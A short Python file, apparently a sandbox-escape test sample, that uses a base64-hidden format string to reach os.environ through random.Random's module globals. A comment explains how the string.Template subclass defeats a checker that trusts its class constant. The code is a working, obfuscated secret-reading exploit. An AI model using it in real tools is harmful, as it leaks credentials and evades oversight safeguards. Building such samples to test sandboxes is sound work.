# family: format
# Escape: a string.Template subclass declares `template = "{0}"` as a class constant (trusted for
# self.template.format); string.Template.__init__ stores its argument in self.template, shadowing the constant
# without any attribute store in the tool. The argument is base64 for "{0.__init__.__globals__[_os].environ}".
import base64
import random
import string


class Snippet(string.Template):
    template = "{0}"

    def brace_render(self, value) -> str:
        return self.template.format(value)


def tool() -> str:
    return Snippet(base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode()).brace_render(random.Random())
